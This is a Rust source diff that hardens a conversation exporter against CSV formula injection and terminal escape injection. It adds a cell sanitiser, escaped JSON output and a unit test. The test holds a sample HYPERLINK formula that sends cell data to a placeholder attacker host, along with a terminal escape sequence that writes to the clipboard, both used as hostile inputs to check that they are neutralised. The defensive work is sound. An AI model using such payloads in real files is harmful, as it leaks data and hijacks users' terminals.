@@ -161,6 +161,17 @@ pub fn unthread_row(c: &Conversation, users: &HashMap<String, User>) -> Row {
     row
 }
 
+/// A server's text as a CSV cell: one clean line (nothing that drives a terminal), and a
+/// formula neutralised as OWASP recommends — a cell starting with `=`, `+`, `-`, `@`, a tab or a
+/// CR gets a leading `'`, so a spreadsheet shows it instead of running it.
+fn csv_cell(value: &str) -> String {
+    let clean = crate::support::sanitize::line(value);
+    match clean.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{clean}"),
+        _ => clean.into_owned(),
+    }
+}
+
 /// Writes rows in the chosen format as they come.
 struct Sink<'a> {
     format: ExportFormat,
@@ -186,10 +197,12 @@ impl<'a> Sink<'a> {
         match (&mut self.csv, &mut self.out) {
             (Some(w), _) => {
                 let tags = row.tags.join("; ");
-                w.write_record(COLUMNS.iter().map(|c| if *c == "ai_tags" { tags.as_str() } else { row.get(c) }))?;
+                let cells = COLUMNS.iter().map(|c| if *c == "ai_tags" { tags.as_str() } else { row.get(c) });
+                w.write_record(cells.map(csv_cell))?;
             }
             (None, Some(out)) => {
-                let json = row.to_json().to_string();
+                // Controls, C1, bidi and invisibles escaped as \uXXXX: exact, and inert.
+                let json = crate::scripting::output::json_text(&row.to_json());
                 match self.format {
                     ExportFormat::Json => write!(out, "{}\n  {json}", if self.written == 0 { "" } else { "," })?,
                     _ => writeln!(out, "{json}")?,
@@ -277,4 +290,23 @@ pub async fn run(
         eprintln!();
     }
     Ok(written)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_cell;
+
+    #[test]
+    fn a_cell_is_inert_on_a_terminal_and_in_a_spreadsheet() {
+        assert_eq!(
+            csv_cell(r#"=HYPERLINK("http://evil.test/?x="&A1,"Open")"#),
+            r#"'=HYPERLINK("http://evil.test/?x="&A1,"Open")"#
+        );
+        for formula in ["+1+2", "-2+3", "@SUM(A1)"] {
+            assert!(csv_cell(formula).starts_with('\''), "{formula}");
+        }
+        assert_eq!(csv_cell("plain 42"), "plain 42");
+        let hostile = csv_cell("a\u{1b}]52;c;eA==\u{7}b\u{9b}31m\u{202e}");
+        assert!(!hostile.chars().any(|c| c.is_control() || c == '\u{202e}'), "{hostile:?}");
+    }
 }
